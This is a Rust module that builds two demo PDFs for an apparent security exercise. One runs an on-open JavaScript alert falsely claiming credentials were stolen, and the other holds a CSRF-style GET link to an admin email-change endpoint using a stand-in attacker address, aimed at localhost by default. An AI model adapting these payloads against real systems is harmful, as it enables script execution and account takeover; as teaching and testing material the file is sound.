//! Proof-of-concept document synthesizer.
//!
//! Manufactures the two demo PDFs: one carrying an on-open script payload,
//! one carrying a visible CSRF-style GET link. Logical content is
//! deterministic for a given target origin, and output is a complete valid
//! PDF or an error, never a truncated artifact.

use slotbox_pdf::{compose_document, DocumentSpec, LinkRegion, TextLine};
use tracing::Level;

use crate::audit::{AuditDomain, AuditEvent};
use crate::error::SynthesisError;
use crate::model::{Document, DocumentKind};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PocKind {
    Script,
    Link,
}

/// Origin the link PoC targets when the caller supplies none.
pub const DEFAULT_TARGET_ORIGIN: &str = "http://127.0.0.1:5000";

/// Path + query the link PoC issues against the target origin. The fact that
/// this is a plain GET is the point of the demo: the hardened email-change
/// endpoint only mutates on POST, so following the link changes nothing.
pub const CSRF_LINK_PATH: &str = "/admin/change-email?email=attacker%40evil.example";

/// Fixed script payload. No user input is ever interpolated into it, so the
/// generator cannot become a second-order injection vector.
const SCRIPT_PAYLOAD: &str = "app.alert({\n    cMsg: \"¡Vulnerabilidad XSS/Ejecución de Script Demostrada! (Documento.domain: \" + document.domain + \") - ¡Las credenciales han sido robadas!\",\n    cTitle: \"Alerta de Seguridad TPI\"\n});";

/// Build a PoC document. `target_origin` only affects `PocKind::Link`;
/// `None` falls back to [`DEFAULT_TARGET_ORIGIN`].
pub fn synthesize(
    kind: PocKind,
    target_origin: Option<&str>,
) -> Result<Document, SynthesisError> {
    let document = match kind {
        PocKind::Script => synthesize_script()?,
        PocKind::Link => synthesize_link(target_origin)?,
    };
    AuditEvent {
        level: Level::INFO,
        domain: AuditDomain::Synthesis,
        kind: document.kind.as_str(),
        actor: None,
        outcome: "ok",
        message: "PoC document synthesized",
    }
    .emit();
    Ok(document)
}

fn synthesize_script() -> Result<Document, SynthesisError> {
    let spec = DocumentSpec {
        lines: vec![
            text(100, 750, "Documento de prueba - Riesgo de Seguridad"),
            text(
                100,
                730,
                "Este PDF contiene la frase que debe activar la alerta: Riesgo de Seguridad",
            ),
        ],
        javascript: Some(SCRIPT_PAYLOAD.to_string()),
        ..Default::default()
    };
    Ok(Document {
        name: "sample_risky.pdf".into(),
        kind: DocumentKind::ScriptPoc,
        bytes: compose_document(&spec)?,
    })
}

fn synthesize_link(target_origin: Option<&str>) -> Result<Document, SynthesisError> {
    let origin = target_origin.unwrap_or(DEFAULT_TARGET_ORIGIN).trim_end_matches('/');
    if origin.is_empty() {
        return Err(SynthesisError::EmptyTarget);
    }
    let uri = format!("{origin}{CSRF_LINK_PATH}");
    let spec = DocumentSpec {
        lines: vec![
            text(100, 750, "Documento de prueba - Enlace CSRF (aislado)"),
            text(
                100,
                730,
                "Haga clic en el enlace (GET) — en el servidor seguro esto no cambia el email.",
            ),
            text(100, 700, "Click aquí:"),
            // Pedagogical transparency: the visible link text is the URL
            // itself, drawn over the clickable rectangle.
            TextLine { x: 160, y: 700, text: uri.clone() },
        ],
        link: Some(LinkRegion { rect: [160, 688, 460, 708], uri }),
        ..Default::default()
    };
    Ok(Document {
        name: "sample_csrf_link.pdf".into(),
        kind: DocumentKind::LinkPoc,
        bytes: compose_document(&spec)?,
    })
}

fn text(x: i32, y: i32, text: &str) -> TextLine {
    TextLine { x, y, text: text.to_string() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn window(bytes: &[u8], needle: &[u8]) -> bool {
        bytes.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn script_poc_carries_payload_and_open_action() {
        let doc = synthesize(PocKind::Script, None).expect("synthesize");
        assert_eq!(doc.kind, DocumentKind::ScriptPoc);
        assert!(window(&doc.bytes, b"/OpenAction"));
        assert!(window(&doc.bytes, b"/S /JavaScript"));
        // Payload text survives (Latin-1 encoded, parens escaped).
        assert!(window(&doc.bytes, b"cTitle: \"Alerta de Seguridad TPI\""));
    }

    #[test]
    fn link_poc_targets_email_change_get() {
        let doc = synthesize(PocKind::Link, Some("http://demo.local/")).expect("synthesize");
        assert_eq!(doc.kind, DocumentKind::LinkPoc);
        assert!(window(
            &doc.bytes,
            b"/URI (http://demo.local/admin/change-email?email=attacker%40evil.example)"
        ));
        assert!(window(&doc.bytes, b"/Rect [160 688 460 708]"));
    }

    #[test]
    fn link_poc_is_deterministic_for_same_origin() {
        let a = synthesize(PocKind::Link, Some("http://host")).expect("synthesize");
        let b = synthesize(PocKind::Link, Some("http://host")).expect("synthesize");
        assert_eq!(a.bytes, b.bytes);
    }

    #[test]
    fn empty_target_origin_is_rejected() {
        assert!(matches!(
            synthesize(PocKind::Link, Some("")),
            Err(SynthesisError::EmptyTarget)
        ));
    }
}
